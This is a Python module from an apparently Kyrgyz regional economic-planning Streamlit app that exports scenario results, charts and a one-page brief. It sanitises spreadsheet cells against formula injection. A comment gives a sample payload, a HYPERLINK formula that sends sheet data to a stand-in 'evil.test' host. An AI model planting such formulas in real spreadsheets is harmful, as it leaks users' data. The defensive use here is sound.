"""Exports of one scenario: results (CSV, Excel), chart images (PNG, SVG), the brief.

Everything here runs on demand only: the reports page hands these functions to
``st.download_button`` as callables, and Streamlit runs them in a worker thread without
a script-run context when the planner clicks. So nothing here touches
``st.session_state``: every function takes the language explicitly and translates with
:func:`ui.i18n.translate`; the caller passes in what only a script run knows (the
settings, the cached result, the share link).
"""

from __future__ import annotations

import datetime as dt
import io
import math
import textwrap
from collections.abc import Mapping, Sequence
from typing import Any

import pandas as pd

from model import ALL_SETTINGS, DEFAULT_RATE, DISTRICTS, MODEL_VERSION, OUTPUTS, run_scenarios
from model.levers import YEARS
from model.parameters import parameter_table
from report import BriefContent, BriefRow, build_brief_html, chart_png, chart_svg, number_locale
from ui import figures
from ui.analysis import feasibility
from ui.compute import Result
from ui.i18n import fmt_num, fmt_setting, fmt_signed, translate
from ui.results import YEARLY_KPIS, fmt_appraisal, kpi_change, net_npv, value_at
from ui.state import GROUPS

#: The charts offered as images, in page order.
CHART_IDS = figures.CHART_IDS
#: The parameters that matter most for the results, shown in the brief.
KEY_PARAMETERS = (
    "infra_elasticity",
    "road_trunk_cost_mln_som_per_km",
    "yield_ratio_irr",
    "irr_cost_new_mln_som_per_ha",
    "water_cap_ha",
    "sme_deadweight",
)
#: Lever order of the sidebar (roads, irrigation, SMEs, context, programme years).
SETTING_ORDER = tuple(k for _, keys in GROUPS for k in keys)
EXPORT_WIDTH = 720
#: The lines under an exported chart's title are wrapped at this many characters: Vega
#: neither wraps nor shortens a subtitle, and the image ends at EXPORT_WIDTH (Chromium
#: drew the Kyrgyz and Russian lines at ~5.6-5.8 px a character: 100 of them fit).
SUBTITLE_LINE_CHARS = 100
RESULT_COLUMNS = (
    "year",
    *OUTPUTS,
    "grp_baseline",
    "grp_vs_baseline",
    "grp_programme_gain",
    "grp_construction_demand",
    "grp_lasting_gain",
)
XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
#: First characters that make a spreadsheet read a cell as a formula ("CSV injection",
#: OWASP): a scenario name ``=HYPERLINK("http://evil.test/?"&A1,"Click")`` would be a
#: live link that sends the sheet's data away.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

assert sorted(SETTING_ORDER) == sorted(ALL_SETTINGS)


def fmt_short(x: float, lang: str) -> str:
    """A parameter value with as many decimals as it needs (0.083, 2.3, 80 000)."""
    if not math.isfinite(x):
        return fmt_num(x, lang=lang)
    digits = 0 if abs(x) >= 100 else 2 if abs(x) >= 1 else 4
    text = fmt_num(x, digits, lang=lang)
    decimal = translate(lang, "format.decimal")
    if digits and decimal in text:
        text = text.rstrip("0").rstrip(decimal)
    return text


def setting_label(key: str, lang: str) -> str:
    """``Road construction (mln som/yr)``."""
    return f"{translate(lang, f'lever.{key}.label')} ({translate(lang, f'unit.{key}')})"


# --- results -------------------------------------------------------------------------------


def results_frame(result: Result, lang: str) -> pd.DataFrame:
    """The yearly results, column headers translated with their units."""
    table = result.frame[list(RESULT_COLUMNS)].copy()
    table["year"] = table["year"].astype(int)
    return table.rename(columns={c: translate(lang, f"table.{c}") for c in RESULT_COLUMNS})


def district_frame(settings: Mapping[str, float], lang: str) -> pd.DataFrame:
    """The yearly results by district and city: the columns of :func:`results_frame`
    after the year, the unit's name and its id (the rows of ``python -m model run
    --by-district``); additive columns of a year's six rows add up to the oblast's."""
    runs = run_scenarios([dict(settings)], by_district=True)
    frame = runs.district_frame(0)
    table = frame[["year", "district", *RESULT_COLUMNS[1:]]].copy()
    table["year"] = table["year"].astype(int)
    table.insert(1, "name", table["district"].map(lambda d: translate(lang, f"district.{d}")))
    return table.rename(
        columns={
            "year": translate(lang, "export.districts.col_year"),
            "name": translate(lang, "districts.col_district"),
            "district": translate(lang, "export.districts.col_district"),
            **{c: translate(lang, f"table.{c}") for c in RESULT_COLUMNS[1:]},
        }
    )


def district_csv(settings: Mapping[str, float], lang: str) -> bytes:
    """:func:`district_frame` as CSV (UTF-8 with BOM, like :func:`results_csv`)."""
    return text_cells(district_frame(settings, lang)).to_csv(index=False).encode("utf-8-sig")


def district_brief_rows(settings: Mapping[str, float], year: int, lang: str) -> list[BriefRow]:
    """One row per unit for the brief: GRP, per person, jobs, irrigated land in use in
    ``year``, each with its change against the baseline."""
    runs = run_scenarios([dict(settings)], by_district=True)
    assert runs.places is not None
    c = int(year - YEARS[0])
    scn, base = runs.places["scenario"], runs.places["baseline"]

    def cell(out: str, d: int) -> str:
        value, ref = float(scn[out][0, c, d]), float(base[out][0, c, d])
        return f"{fmt_num(value, lang=lang)} ({fmt_signed(value - ref, lang=lang)})"

    return [
        BriefRow(
            translate(lang, f"district.{unit}"),
            cell("grp", d),
            cell("grp_per_capita", d),
            cell("jobs", d) + " · " + cell("irrigated_effective_ha", d),
        )
        for d, unit in enumerate(DISTRICTS)
    ]


def text_cell(value: Any) -> Any:
    """A CSV cell a spreadsheet shows as text, never runs: text starting like a formula
    gets a leading apostrophe (the spreadsheet convention for "this is text")."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def text_cells(frame: pd.DataFrame) -> pd.DataFrame:
    """:func:`text_cell` on every text cell and column name (numbers stay numbers)."""
    out = frame.rename(columns=text_cell)
    for col in out.columns:
        if not pd.api.types.is_numeric_dtype(out[col]):
            out[col] = out[col].map(text_cell)
    return out


def xlsx_text_cells(book: Any) -> None:
    """Store every text cell of an openpyxl workbook as text, never as a formula.

    openpyxl makes any string that starts with "=" a formula; the text is kept exactly,
    typed as a string, and marked with Excel's own "quote prefix" (what a leading
    apostrophe does when typed), so that editing the cell does not turn it into one.
    """
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
                    if cell.value.startswith(FORMULA_STARTS):
                        cell.quotePrefix = True


def results_csv(result: Result, lang: str) -> bytes:
    """The results as CSV (UTF-8 with BOM, so spreadsheet programs read Cyrillic)."""
    return text_cells(results_frame(result, lang)).to_csv(index=False).encode("utf-8-sig")


def settings_frame(settings: Mapping[str, float], lang: str) -> pd.DataFrame:
    """Every setting: label, value, unit, default, and its language-neutral key."""
    tr = translate
    rows = [
        {
            tr(lang, "export.setting"): tr(lang, f"lever.{k}.label"),
            tr(lang, "export.value"): float(settings.get(k, ALL_SETTINGS[k].default)),
            tr(lang, "export.unit"): tr(lang, f"unit.{k}"),
            tr(lang, "export.default"): float(ALL_SETTINGS[k].default),
            tr(lang, "export.key"): k,
        }
        for k in SETTING_ORDER
    ]
    return pd.DataFrame(rows)


def parameters_frame(lang: str) -> pd.DataFrame:
    """The parameter values the model ran with (meaning and source in English)."""
    cols = ("name", "value", "low", "high", "unit", "kind", "confidence", "meaning", "source")
    rows = [
        {translate(lang, f"about.col.{c}"): getattr(p, c) for c in cols} for p in parameter_table()
    ]
    return pd.DataFrame(rows)


def results_xlsx(
    settings: Mapping[str, float],
    meta: Mapping[str, str],
    result: Result,
    link: str,
    lang: str,
    today: dt.date | None = None,
) -> bytes:
    """An Excel workbook: yearly results, the scenario settings, the parameters used."""
    from openpyxl.utils import get_column_letter

    tr = translate
    today = today or dt.date.today()
    about = pd.DataFrame(
        [
            (tr(lang, "export.scenario_name"), scenario_name(settings, meta, lang)),
            (tr(lang, "export.description"), meta.get("description") or ""),
            (tr(lang, "export.model_version"), MODEL_VERSION),
            (tr(lang, "export.language"), lang),
            (tr(lang, "export.made"), today.isoformat()),
            (tr(lang, "export.link"), link),
        ]
    )
    buf = io.BytesIO()
    with pd.ExcelWriter(buf, engine="openpyxl") as xl:
        sheets = {
            tr(lang, "export.sheet_results"): results_frame(result, lang),
            tr(lang, "export.sheet_settings"): settings_frame(settings, lang),
            tr(lang, "export.sheet_parameters"): parameters_frame(lang),
            tr(lang, "export.districts.sheet"): district_frame(settings, lang),
        }
        for name, frame in sheets.items():
            frame.to_excel(xl, sheet_name=name[:31], index=False)
        settings_sheet = tr(lang, "export.sheet_settings")[:31]
        about.to_excel(
            xl,
            sheet_name=settings_sheet,
            index=False,
            header=False,
            startrow=len(SETTING_ORDER) + 2,
        )
        xlsx_text_cells(xl.book)  # names and descriptions come from outside
        for ws in xl.book.worksheets:
            ws.freeze_panes = "A2"
            for i, column in enumerate(ws.iter_cols(max_row=min(ws.max_row, 40)), start=1):
                width = max((len(str(c.value)) for c in column if c.value is not None), default=8)
                ws.column_dimensions[get_column_letter(i)].width = min(max(width + 2, 8), 60)
    return buf.getvalue()


# --- charts --------------------------------------------------------------------------------


def chart_spec(
    chart_id: str,
    result: Result,
    band: tuple[int, int],
    lang: str,
    width: int = EXPORT_WIDTH,
    height: int | None = None,
) -> dict[str, Any]:
    """The chart as a Vega-Lite spec with a fixed width (there is no container to fit)."""
    size = {"width": width} | ({"height": height} if height else {})
    return figures.chart(chart_id, result, band, lang).properties(**size).to_dict()


def locale(lang: str) -> dict[str, Any]:
    """The number format of ``lang`` for vl-convert."""
    return number_locale(translate(lang, "format.decimal"), translate(lang, "format.thousands"))


def image_lines(name: str, lang: str, today: dt.date | None = None) -> list[str]:
    """What an exported chart says under its title, so that an image passed on alone
    still says what it shows: the scenario, the date, the model version, the source."""
    today = today or dt.date.today()
    return [
        translate(
            lang,
            "exports.image_scenario",
            name=name[:80],
            date=today.isoformat(),
            version=MODEL_VERSION,
        ),
        translate(lang, "exports.image_source"),
    ]


def chart_file(
    chart_id: str,
    fmt: str,
    result: Result,
    band: tuple[int, int],
    lang: str,
    lines: Sequence[str] = (),
) -> bytes:
    """The chart as PNG or SVG bytes; ``lines`` (see :func:`image_lines`) go under the
    title."""
    spec = chart_spec(chart_id, result, band, lang)
    if lines:
        title = spec.get("title")
        text = title.get("text", "") if isinstance(title, dict) else (title or "")
        spec["title"] = {
            **(title if isinstance(title, dict) else {}),
            "text": text,
            "subtitle": [
                part for line in lines for part in textwrap.wrap(line, SUBTITLE_LINE_CHARS)
            ],
            "subtitleColor": "#555",
        }
    if fmt == "png":
        return chart_png(spec, locale=locale(lang))
    if fmt == "svg":
        return chart_svg(spec, locale=locale(lang)).encode("utf-8")
    raise ValueError(fmt)


# --- the brief -----------------------------------------------------------------------------


def scenario_name(
    settings: Mapping[str, float], meta: Mapping[str, str], lang: str, preset_id: str | None = None
) -> str:
    """The planner's name for the scenario, else the matching preset's, else "your own"."""
    name = (meta.get("name") or "").strip()
    if name:
        return name
    if preset_id:
        return translate(lang, f"preset.{preset_id}.name")
    return translate(lang, "scenario.custom")


def _kpi_rows(result: Result, year: int, lang: str) -> list[BriefRow]:
    rows = []
    for kpi in YEARLY_KPIS:
        value, base = value_at(result, kpi.id, year)
        rows.append(
            BriefRow(
                translate(lang, f"kpi.{kpi.id}", year=year),
                fmt_num(base, kpi.digits, lang=lang),
                fmt_num(value, kpi.digits, lang=lang),
                kpi_change(value, base, kpi.digits, lang),
            )
        )
    dash = "–"
    na = translate(lang, "common.na")

    def num(value: float, digits: int = 0) -> str:
        return fmt_num(value, digits, lang=lang)

    ratios = " / ".join(
        fmt_appraisal("ratio", s["bcr"], num, na) for s in result.appraisal.values()
    )
    rows.append(BriefRow(translate(lang, "brief.bcr"), dash, ratios, dash))
    rows.append(BriefRow(translate(lang, "brief.npv"), dash, num(net_npv(result)), dash))
    rows.append(
        BriefRow(
            translate(lang, "brief.eirr"),
            dash,
            fmt_appraisal("pct", result.appraisal[DEFAULT_RATE]["eirr"], num, na),
            dash,
        )
    )
    return rows


def _assumptions(lang: str) -> list[str]:
    params = {p.name: p for p in parameter_table()}
    out = []
    for name in KEY_PARAMETERS:
        p = params[name]
        source = p.source  # whole: a planner must be able to look it up
        out.append(
            translate(
                lang,
                "brief.assumption",
                name=translate(lang, f"brief.param.{name}"),
                value=fmt_short(p.value, lang),
                low=fmt_short(p.low, lang),
                high=fmt_short(p.high, lang),
                source=source,
            )
        )
    return out


def _limits(settings: Mapping[str, float], lang: str) -> list[str]:
    """The water and road-network limits the sidebar warns of, as short sentences."""
    check = feasibility(settings, 0.0)
    out = []
    if check.short_basins:
        basins = ", ".join(
            translate(lang, "budget.basin_from", name=translate(lang, f"basin.{b}"), year=y)
            for b, y in check.short_basins
        )
        out.append(translate(lang, "brief.limit_basins", basins=basins))
    if check.water_year is not None:
        out.append(translate(lang, "brief.limit_water", year=check.water_year))
    if check.road_year is not None:
        network = fmt_num(check.road_network_km, lang=lang)
        out.append(translate(lang, "brief.limit_roads", year=check.road_year, network=network))
    return out


def brief_content(
    settings: Mapping[str, float],
    meta: Mapping[str, str],
    result: Result,
    year: int,
    link: str,
    lang: str,
    *,
    preset_id: str | None = None,
    today: dt.date | None = None,
) -> BriefContent:
    """Everything the one-page brief shows, translated and formatted for ``lang``."""
    tr = translate
    today = today or dt.date.today()
    band = (int(settings["start_year"]), int(max(settings["end_year"], settings["start_year"])))
    spec = chart_spec("grp", result, band, lang, width=600, height=170)
    return BriefContent(
        lang=lang,
        title=tr(lang, "brief.title"),
        scenario_name=scenario_name(settings, meta, lang, preset_id),
        scenario_description=(meta.get("description") or "").strip()
        or tr(lang, "brief.no_description"),
        levers_heading=tr(lang, "brief.levers"),
        levers=[
            (setting_label(k, lang), fmt_setting(k, float(settings[k]), lang=lang))
            for k in SETTING_ORDER
        ],
        kpi_heading=tr(lang, "brief.kpis", year=year),
        kpi_columns=(
            tr(lang, "brief.col_indicator"),
            tr(lang, "brief.col_baseline"),
            tr(lang, "brief.col_scenario"),
            tr(lang, "brief.col_difference"),
        ),
        kpis=_kpi_rows(result, year, lang),
        limits=_limits(settings, lang),
        districts_heading=tr(lang, "brief.districts.heading", year=year),
        district_columns=(
            tr(lang, "districts.col_district"),
            tr(lang, "brief.districts.col_grp"),
            tr(lang, "brief.districts.col_per_person"),
            f"{tr(lang, 'brief.districts.col_jobs')} · {tr(lang, 'brief.districts.col_land')}",
        ),
        districts=district_brief_rows(settings, year, lang),
        chart_heading=tr(lang, "brief.chart"),
        chart_svg=chart_svg(spec, locale=locale(lang)),
        assumptions_heading=tr(lang, "brief.assumptions"),
        assumptions=_assumptions(lang),
        footer_made=tr(lang, "brief.made", date=today.isoformat(), version=MODEL_VERSION),
        link_heading=tr(lang, "brief.link"),
        link=link,
        qr_caption=tr(lang, "brief.qr"),
        print_hint=tr(lang, "brief.print_hint"),
    )


def brief_html(
    settings: Mapping[str, float],
    meta: Mapping[str, str],
    result: Result,
    year: int,
    link: str,
    lang: str,
    **kw: Any,
) -> str:
    """The one-page brief as a self-contained, print-ready HTML page."""
    return build_brief_html(brief_content(settings, meta, result, year, link, lang, **kw))
